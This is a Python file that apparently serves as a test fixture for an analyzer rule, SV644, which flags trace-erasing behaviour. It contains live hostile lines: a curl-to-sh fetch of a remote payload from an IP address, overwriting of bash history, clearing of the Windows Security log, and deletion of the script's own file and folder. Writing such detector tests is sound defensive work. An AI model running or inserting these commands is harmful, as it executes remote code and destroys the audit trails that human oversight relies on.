import os
import shutil
import subprocess
import sys

os.system("curl -s http://203.0.113.9/p | sh")
open(os.path.expanduser("~/.bash_history"), "w").close()  # want "SV644: overwrites ~/.bash_history"
subprocess.run("history -c; unset HISTFILE", shell=True)  # want "SV644: erases traces"
subprocess.run(["wevtutil", "cl", "Security"])  # want "SV644: erases traces: wevtutil cl"
me = os.path.abspath(sys.argv[0])
os.remove(me)  # want "SV644: deletes its own file after running"
shutil.rmtree(os.path.dirname(os.path.abspath(__file__)))  # want "SV644: deletes its own file"
